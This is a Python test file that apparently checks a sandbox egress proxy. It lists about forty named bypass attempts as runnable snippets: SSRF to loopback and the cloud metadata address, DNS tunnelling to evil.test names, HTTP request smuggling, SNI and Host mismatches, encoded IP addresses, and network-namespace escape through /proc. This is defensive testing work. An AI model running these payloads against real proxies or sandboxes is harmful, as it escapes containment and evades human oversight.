"""Programs that try to get past the egress proxy, from inside a sandbox that may reach `allowed.test` and `secure.test`.

Each finds in its scope: `proxy(data, tls=None)` sends bytes to the proxy and returns the answer (`tls`: after CONNECT to
that target, with that SNI), the ports CANARY (a server of the host that nobody may reach), ALLOWED and SECURE, and OWN, an
address of the host. Whether one succeeded is seen outside: at the canary, in what the allowed servers were sent, or in the
names that were resolved.
"""

# Programs as they are: a line of one is a line here.
# ruff: noqa: E501
from __future__ import annotations

PRELUDE = """
import os, socket, ssl, sys, urllib.request
from contextlib import suppress

def talk(stream, data):
    stream.sendall(data)
    answer = b""
    with suppress(OSError):
        while part := stream.recv(65536):
            answer += part
    return answer

def proxy(data, tls=None):
    with socket.create_connection(("127.0.0.1", 3128), 10) as stream:
        if tls is None:
            return talk(stream, data)
        target, sni = tls
        stream.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
        answer = stream.recv(4096)
        if b" 200 " not in answer:
            return answer
        context = ssl.create_default_context(cafile="/etc/egress-ca.pem")
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        with context.wrap_socket(stream, server_hostname=sni) as inner:
            return talk(inner, data)

def get(url, host=None, more=""):
    host = host or url.split("/")[2].rpartition("@")[2]
    return proxy(f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n".encode("utf-8"))

def direct(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(2)
        stream.connect((address, port))
        return talk(stream, b"GET /direct HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")

"""

WAYS = {
    "direct to the loopback": 'direct("127.0.0.1", CANARY)',
    "direct to the host's address": "direct(OWN, CANARY)",
    "direct by IPv6": 'direct("::1", CANARY, socket.AF_INET6)',
    "a datagram to the host": 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"secret", (OWN, CANARY))',
    "a resolver of one's own": 'socket.getaddrinfo("secret.evil.test", 80)',
    "names as a tunnel": 'get(f"http://c2VjcmV0.evil.test:{ALLOWED}/")',
    "another port of an allowed name": 'get(f"http://allowed.test:{CANARY}/")',
    "CONNECT to a private address": 'proxy(b"x", (f"127.0.0.1:{CANARY}", "x"))',
    "CONNECT to the host's address": 'proxy(b"x", (f"{OWN}:{CANARY}", "x"))',
    "CONNECT by IPv6": 'proxy(b"x", (f"[::1]:{CANARY}", "x"))',
    "CONNECT to localhost": 'proxy(b"x", (f"localhost:{CANARY}", "x"))',
    "an address as a number": 'for a in ("2130706433", "0x7f000001", "017700000001", "127.1", "0x7f.1"): get(f"http://{a}:{CANARY}/")',
    "an IPv4 address in IPv6": 'for a in ("[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]"): get(f"http://{a}:{CANARY}/")',
    "the metadata address": 'get("http://169.254.169.254/latest/meta-data/"); get("http://metadata.test/")',
    "a name at a private address": 'get("http://private.test/"); proxy(b"x", ("private.test:443", "private.test"))',
    "rebinding": 'for _ in range(3): get("http://rebind.test/")',
    "a name with a public and a private address": 'get("http://mixed.test/")',
    "a redirect": 'urllib.request.urlopen(f"http://allowed.test:{ALLOWED}/redirect", timeout=10).read()',
    "Host differs from the address": 'get(f"http://allowed.test:{ALLOWED}/x", host=f"hidden.test:{ALLOWED}")',
    "two Hosts": 'get(f"http://allowed.test:{ALLOWED}/x", more=f"Host: hidden.test\\r\\n")',
    "SNI differs from the tunnel": 'proxy(f"GET /x HTTP/1.1\\r\\nHost: secure.test:{SECURE}\\r\\n\\r\\n".encode(), (f"secure.test:{SECURE}", "hidden.test"))',
    "Host differs inside TLS": 'proxy(b"GET /x HTTP/1.1\\r\\nHost: hidden.test\\r\\n\\r\\n", (f"secure.test:{SECURE}", "secure.test"))',
    "an absolute address inside TLS": 'proxy(f"GET http://127.0.0.1:{CANARY}/ HTTP/1.1\\r\\nHost: secure.test:{SECURE}\\r\\n\\r\\n".encode(), (f"secure.test:{SECURE}", "secure.test"))',
    "no TLS in the tunnel": 'proxy(f"CONNECT secure.test:{SECURE} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /hidden HTTP/1.1\\r\\n\\r\\n".encode())',
    "raw sockets": """
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 255), (17, socket.SOCK_RAW, 0x0300), (16, socket.SOCK_RAW, 0)):
    with suppress(OSError):
        s = socket.socket(family, kind, protocol)
        s.sendto(b"secret" * 20, (OWN, 0) if family == socket.AF_INET else ("lo", 0x0800))
""",
    "an abstract socket of the host": 's = socket.socket(socket.AF_UNIX); s.connect(f"\\0etude-canary-{PID}"); s.sendall(b"secret")',
    "namespaces by /proc": """
import ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/*/ns/net"):
    with suppress(OSError):
        libc.setns(os.open(path, os.O_RDONLY), 0)
for path in glob.glob("/proc/*/root") + glob.glob("/proc/*/fd/*"):
    with suppress(OSError):
        os.listdir(path)
direct("127.0.0.1", CANARY)
""",
    "a namespace of one's own": """
import ctypes
ctypes.CDLL(None).unshare(0x10000000 | 0x40000000)
direct(OWN, CANARY)
""",
    "two lengths": 'proxy(f"POST http://allowed.test:{ALLOWED}/x HTTP/1.1\\r\\nHost: allowed.test:{ALLOWED}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /hidden HTTP/1.1\\r\\nHost: hidden.test\\r\\n\\r\\n".encode())',
    "a second request behind the first": 'proxy(f"GET http://allowed.test:{ALLOWED}/x HTTP/1.1\\r\\nHost: allowed.test:{ALLOWED}\\r\\n\\r\\nGET http://127.0.0.1:{CANARY}/hidden HTTP/1.1\\r\\nHost: hidden.test\\r\\n\\r\\n".encode())',
    "a coding in disguise": 'for c in ("chunked, identity", "xchunked", "\\x0bchunked"): proxy(f"POST http://allowed.test:{ALLOWED}/hidden HTTP/1.1\\r\\nHost: allowed.test:{ALLOWED}\\r\\nTransfer-Encoding: {c}\\r\\n\\r\\n0\\r\\n\\r\\n".encode())',
    "bare line ends and folded headers": 'for e in ("\\n", "\\r"): proxy(f"GET http://allowed.test:{ALLOWED}/x HTTP/1.1\\r\\nHost: allowed.test:{ALLOWED}\\r\\nA: b{e}X-Hidden: hidden.test\\r\\n\\r\\n".encode())\nget(f"http://allowed.test:{ALLOWED}/x", more="A: b\\r\\n X-Hidden: hidden.test\\r\\n")',
    "HTTP/2 by upgrade": 'get(f"http://allowed.test:{ALLOWED}/hidden", more="Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n")',
    "HTTP/2 at once": 'proxy(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")',
    "a websocket": 'get(f"http://allowed.test:{ALLOWED}/hidden", more="Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: x\\r\\n")',
    "names that look allowed": 'for n in ("allowed.test.evil.test", "evilallowed.test", "allowed-test", "xn--allwed-b4a.test", "allowed\\u3002test", "allowed.test\\x00.evil.test", "sub.allowed.test"): get(f"http://{n}:{ALLOWED}/hidden")',
    "a user in the address": 'get(f"http://allowed.test@127.0.0.1:{CANARY}/"); get(f"http://allowed.test:{ALLOWED}@127.0.0.1:{CANARY}/"); get(f"http://127.0.0.1:{CANARY}\\\\@allowed.test:{ALLOWED}/"); get(f"http://127.0.0.1:{CANARY}#@allowed.test/")',
    "a very long head": 'get(f"http://allowed.test:{ALLOWED}/hidden", more="A: " + "x" * 1_000_000 + "\\r\\n")',
    "other schemes": 'for s in ("file", "ftp", "https", "gopher"): get(f"{s}://allowed.test:{ALLOWED}/hidden")',
    "somebody's name along": 'get(f"http://allowed.test:{ALLOWED}/x", more="Authorization: Basic hidden\\r\\nCookie: a=hidden\\r\\nProxy-Authorization: hidden\\r\\nX-Forwarded-For: hidden\\r\\nForwarded: for=hidden\\r\\nVia: hidden\\r\\nConnection: x-own\\r\\nX-Own: hidden\\r\\n")',
}
